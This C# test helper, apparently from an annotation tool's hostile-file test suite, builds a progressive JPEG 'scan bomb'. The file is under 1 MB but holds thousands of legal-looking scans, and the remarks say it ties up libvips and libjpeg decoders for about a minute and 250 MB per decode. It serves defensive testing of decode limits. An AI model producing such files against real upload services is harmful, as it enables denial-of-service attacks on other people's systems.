namespace Annotator.Testing.Hostile;

public static partial class HostileFiles
{
    // The largest end-of-band run one symbol can code: EOB14 (2^14) plus 14 extra bits.
    private const int MaxEobRun = 0x7FFF;

    // Al, the successive-approximation shift, goes up to 13 (T.81 B.2.3): 14 scans per coefficient,
    // one first scan (Ah 0, Al 13) and refinements down to Al 0.
    private const int BitLevels = 14;

    // DC table 0 has one symbol, category 0 (difference 0), with the 1-bit code 0.
    private const int DcZero = 0;

    /// <summary>
    /// Scans in a legal progression for one component: the DC scan, then each of the 63 AC
    /// coefficients in a band of its own, at each of 14 bit levels. <see cref="ProgressiveJpegScanBomb"/>
    /// is strictly legal up to this many scans; beyond it the AC progression starts over.
    /// </summary>
    public const int LegalScans = 1 + 63 * BitLevels;

    /// <summary>
    /// A progressive (SOF2) greyscale JPEG of <paramref name="width"/>×<paramref name="height"/> made of
    /// <paramref name="scans"/> scans: the DC scan, then AC scans each refining a single coefficient
    /// by one bit level (<see cref="LegalScans"/> of them in a legal progression, then that progression
    /// again from the start). The image is flat grey, every coefficient zero, so an AC scan is a few
    /// end-of-band runs of 32,767 blocks; 10000×10000 with 2,647 scans (three rounds) is under 1 MB.
    /// </summary>
    /// <remarks>
    /// A progressive decoder keeps every coefficient of the image in memory and runs through all of
    /// them once per scan: 2,647 passes over 100 megapixels of blocks from a 1 MB upload that declares
    /// an allowed size (libvips takes about a minute of one core and 250 MB to decode it once).
    /// libjpeg accepts a band that starts over once its refinements have reached bit 0 (the expected
    /// Ah is 0 again), so it warns about none of it, and libvips with fail-on=error would not refuse it
    /// even if it did: only a limit on scans or on decode time stops it.
    /// </remarks>
    public static byte[] ProgressiveJpegScanBomb(int width, int height, int scans)
    {
        ArgumentOutOfRangeException.ThrowIfNegativeOrZero(width);
        ArgumentOutOfRangeException.ThrowIfNegativeOrZero(height);
        ArgumentOutOfRangeException.ThrowIfGreaterThan(width, ushort.MaxValue);
        ArgumentOutOfRangeException.ThrowIfGreaterThan(height, ushort.MaxValue);
        ArgumentOutOfRangeException.ThrowIfNegativeOrZero(scans);
        // One component in each scan: the scan codes every block of it, not MCUs (T.81 A.2.2).
        var blocks = (long)((width + 7) / 8) * ((height + 7) / 8);

        var jpeg = new MemoryStream();
        jpeg.Write([0xFF, 0xD8]); // SOI
        // DQT: table 0, 8-bit, every step 1 (the values are irrelevant: every coefficient is zero).
        Segment(jpeg, 0xDB, [0x00, .. Enumerable.Repeat((byte)1, 64)]);
        // SOF2: 8-bit, height, width, one component (id 1, 1×1 sampling, quantisation table 0).
        Segment(jpeg, 0xC2, [8, (byte)(height >> 8), (byte)height, (byte)(width >> 8), (byte)width, 1, 1, 0x11, 0]);
        Segment(jpeg, 0xC4, HuffmanTables());

        // The DC scan: a difference of 0 for every block, one bit each (195 KB of the 100 MP file).
        Scan(jpeg, start: 0, end: 0, ah: 0, al: 0);
        var bits = new JpegBits(jpeg);
        for (var b = 0L; b < blocks; b++) bits.Write(DcZero, 1);
        bits.Flush();

        for (var s = 0; s < scans - 1; s++)
        {
            var step = s % (LegalScans - 1);
            var coefficient = 1 + step / BitLevels;
            var level = step % BitLevels; // 0: the first scan at Al 13; then refinements Ah → Ah - 1
            if (level == 0) Scan(jpeg, coefficient, coefficient, ah: 0, al: BitLevels - 1);
            else Scan(jpeg, coefficient, coefficient, ah: BitLevels - level, al: BitLevels - level - 1);
            // First scans and refinements code an all-zero band the same way: end-of-band runs. A
            // refinement scan adds correction bits only for coefficients already non-zero: none here.
            bits = new JpegBits(jpeg);
            for (var left = blocks; left > 0; left -= MaxEobRun)
                EndOfBandRun(bits, (int)Math.Min(left, MaxEobRun));
            bits.Flush();
        }
        jpeg.Write([0xFF, 0xD9]); // EOI
        return jpeg.ToArray();
    }

    /// <summary>
    /// DHT for table 0 of each class. DC: the single 1-bit code. AC: the 15 end-of-band run symbols
    /// EOB0..EOB14 (0x00, 0x10 ... 0xE0), 4 bits each, so EOBn's code is n (the all-ones code stays unused, as T.81 requires).
    /// </summary>
    private static byte[] HuffmanTables()
    {
        byte[] dcLengths = [1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        byte[] acLengths = [0, 0, 0, 15, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        return [0x00, .. dcLengths, 0x00, 0x10, .. acLengths, .. Enumerable.Range(0, 15).Select(n => (byte)(n << 4))];
    }

    /// <summary>EOBn codes a run of 2^n blocks plus n extra bits: n is the run's top bit, the extra bits the rest.</summary>
    private static void EndOfBandRun(JpegBits bits, int run)
    {
        var n = 31 - int.LeadingZeroCount(run);
        bits.Write(n, 4);
        bits.Write(run - (1 << n), n);
    }

    /// <summary>SOS for component 1 with tables 0: spectral band start..end, successive approximation Ah, Al.</summary>
    private static void Scan(Stream jpeg, int start, int end, int ah, int al) =>
        Segment(jpeg, 0xDA, [1, 1, 0x00, (byte)start, (byte)end, (byte)(ah << 4 | al)]);

    private static void Segment(Stream jpeg, byte marker, ReadOnlySpan<byte> body)
    {
        var length = body.Length + 2;
        jpeg.Write([0xFF, marker, (byte)(length >> 8), (byte)length]);
        jpeg.Write(body);
    }
}
